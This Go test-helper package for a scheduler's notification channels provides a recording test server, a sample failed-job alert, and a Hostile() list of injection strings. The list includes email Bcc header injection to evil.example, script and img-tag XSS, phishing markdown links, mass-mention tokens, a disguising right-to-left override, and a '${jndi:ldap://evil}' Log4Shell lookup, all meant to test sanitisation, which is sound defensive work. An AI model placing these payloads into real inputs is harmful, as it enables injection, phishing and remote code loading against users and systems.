// Package notifytest holds what every channel must do, and the texts that none may pass on as they
// are.
package notifytest

import (
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"sync"
	"testing"
	"time"

	"github.com/platform-scheduler/platform-scheduler/domain/entity/alert"
	"github.com/platform-scheduler/platform-scheduler/infrastructure/outbound"
)

// Loopback allows every port of this machine.
func Loopback() *outbound.Guard {
	return outbound.New(outbound.Policy{AllowCIDRs: []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}})
}

// Call is one call that a receiver saw.
type Call struct {
	Method string
	URL    string
	Header http.Header
	Body   string
}

// Receiver is a server that records calls and answers as it is told.
type Receiver struct {
	*httptest.Server

	mu     sync.Mutex
	calls  []Call
	answer http.HandlerFunc
}

// NewReceiver starts a server; the test ends it.
func NewReceiver(t testing.TB, answer http.HandlerFunc) *Receiver {
	t.Helper()
	r := &Receiver{answer: answer}
	r.Server = httptest.NewServer(http.HandlerFunc(r.serve))
	t.Cleanup(r.Server.Close)
	return r
}

func (r *Receiver) serve(w http.ResponseWriter, request *http.Request) {
	body, _ := io.ReadAll(request.Body)
	r.mu.Lock()
	r.calls = append(r.calls, Call{
		Method: request.Method, URL: request.URL.String(), Header: request.Header.Clone(), Body: string(body),
	})
	answer := r.answer
	r.mu.Unlock()
	answer(w, request)
}

// Calls are those that came in, in their order.
func (r *Receiver) Calls() []Call {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]Call(nil), r.calls...)
}

// Answer says a status and a body.
func Answer(status int, body string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(status)
		_, _ = io.WriteString(w, body)
	}
}

// Message is one of a failed job.
func Message() alert.Message {
	at := time.Date(2026, 11, 22, 6, 30, 15, 0, time.UTC)
	return alert.Message{
		ID: "ntf-7f3a", Time: at, Firing: true, Level: "CRITICAL", Total: 1,
		GroupLabels: map[string]string{"group": "billing"}, URL: "https://scheduler.example/alerts",
		Alerts: []alert.MessageAlert{{
			ID: "alert-1", Fingerprint: "fp-1", Type: "JOB_FAILED", Level: "CRITICAL", Status: "FIRING",
			RuleName: "failures", Group: "billing", JobID: "job-1", JobName: "nightly_close", Owner: "ann_lee",
			ExecutionID: "exec-1",
			NodeID:      "node-a", Summary: "the job failed: exit code 3", Labels: map[string]string{"team": "ledger"}, Count: 2,
			StartTime: at.Add(-time.Minute), URL: "https://scheduler.example/alerts/alert-1",
		}},
		Content: alert.Content{
			Title: "[CRITICAL] nightly_close: job failed", Text: "the job failed: exit code 3",
			HTML: "<p>the job failed</p>", Markdown: "the job failed",
		},
	}
}

// Hostile are names that somebody might give a job, to call everybody, to forge a line, a link or a
// header, or to hide what they are.
func Hostile() []string {
	return []string{
		"a\r\nBcc: victim@evil.example\r\n\r\nowned",
		"a\nBcc: victim@evil.example",
		"<script>alert(1)</script>",
		`"><img src=https://evil.example/x.png>`,
		"[all is well](https://evil.example/login)",
		"<https://evil.example|all is well>",
		"![x](https://evil.example/x.png)",
		"@all", "@here", "@channel", "@everyone", "@138001380000",
		"<!channel>", "<!here|here>", "<@U0000001>", "<@all>", "<@zhangsan>", "<!subteam^S0001>",
		`<at user_id="all">all</at>`, "<at id=all></at>", "<AT  id=all></AT>", "<person id='x'>",
		"# heading\n## heading", "**bold** *x* `code` ~~no~~", "| a | b |\n|---|---|",
		"\x00\x01\x1b[31mred\x07", "safe\u202egnp.exe", "a\u2066b\u2069c", "zero\u200bwidth", "line\u2028separator",
		"\xff\xfe broken", "{{.Secret}}", "${jndi:ldap://evil}", "</b></a><b>", "&lt;!channel&gt;", "&#60;at id=all&#62;",
		`\`, "`", "tg://user?id=1", `<a href="tg://user?id=1">x</a>`,
	}
}
